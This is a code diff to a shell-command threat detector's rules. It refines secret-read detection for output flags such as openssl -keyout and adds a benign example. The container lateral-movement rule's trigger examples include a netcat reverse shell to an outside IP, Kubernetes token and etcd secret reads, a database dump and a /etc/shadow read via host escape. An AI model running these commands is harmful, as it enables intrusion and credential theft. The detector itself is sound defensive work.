@@ -1,6 +1,6 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
-import { smbUploads } from '../facts.js';
+import { OUTPUT_OPTIONS, smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
@@ -140,7 +140,9 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
     }
     if (c.name === 'tee') { const k = c.argv.slice(1).map((a) => classifyPath(a)).find((x) => x?.role === 'exec-location'); if (k) return `writes ${k.label}: ${line}`; }
     if (!NOT_READERS.has(c.name)) {
-      const secret = c.argv.slice(1).find((a) => !a.startsWith('-') && a.length < 1024 && classifyPath(a)?.role === 'secret');
+      // `openssl req -keyout k.pem` writes the key it names
+      const outputs = OUTPUT_OPTIONS[c.name];
+      const secret = c.argv.find((a, k) => k > 0 && !a.startsWith('-') && !outputs?.has(c.argv[k - 1]!) && a.length < 1024 && classifyPath(a)?.role === 'secret');
       if (secret) return `reads ${classifyPath(secret)!.label}: ${line}`;
     }
     if (c.name === 'curl' || c.name === 'wget') {
@@ -351,7 +353,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
     message: 'Runs a payload, credential read or data dump inside a container or pod', why: 'Exec into a pod or container to read service-account tokens, dump databases or open shells moves the attack into the cluster.',
     check: remotePayload(CONTAINER),
-    examples: { fire: ["kubectl exec -it deploy/payments -n prod -- /bin/sh -c 'env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'", 'kubectl exec -n kube-system etcd-master -- etcdctl get /registry/secrets --prefix', "kubectl run --image=alpine --restart=Never tmp -- sh -c 'nc 45.33.12.7 4444 -e /bin/sh'", "docker exec -u 0 prod-db bash -c 'pg_dumpall -U postgres' > /tmp/.dump.sql", "docker -H tcp://10.0.0.40:2375 run --rm -v /:/host alpine chroot /host sh -c 'cat /etc/shadow'"], quiet: ['kubectl exec -it api-0 -- sh', 'kubectl exec api-0 -n dev -- npm run migrate', 'docker exec -it db psql -U postgres', 'docker exec -t postgres pg_dumpall -c -U postgres > dump_$(date +%F).sql', 'docker exec web npm test', 'docker run --rm node:20 node -v'] },
+    examples: { fire: ["kubectl exec -it deploy/payments -n prod -- /bin/sh -c 'env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'", 'kubectl exec -n kube-system etcd-master -- etcdctl get /registry/secrets --prefix', "kubectl run --image=alpine --restart=Never tmp -- sh -c 'nc 45.33.12.7 4444 -e /bin/sh'", "docker exec -u 0 prod-db bash -c 'pg_dumpall -U postgres' > /tmp/.dump.sql", "docker -H tcp://10.0.0.40:2375 run --rm -v /:/host alpine chroot /host sh -c 'cat /etc/shadow'"], quiet: ['kubectl exec -it api-0 -- sh', 'kubectl exec api-0 -n dev -- npm run migrate', 'docker exec -it db psql -U postgres', 'docker exec -t postgres pg_dumpall -c -U postgres > dump_$(date +%F).sql', 'docker exec web npm test', 'docker run --rm node:20 node -v', "docker run --rm nginx:1.27 sh -c 'mkdir -p /etc/letsencrypt/live/staging.example.dev && openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=t -keyout /etc/letsencrypt/live/staging.example.dev/privkey.pem -out /etc/letsencrypt/live/staging.example.dev/fullchain.pem && nginx -t'"] },
   },
   {
     id: 'PX-LATERAL-003', name: 'fleet-tool-runs-payload', score: 88, tactic: 'lateral_movement', technique: 'T1072', strong: true,
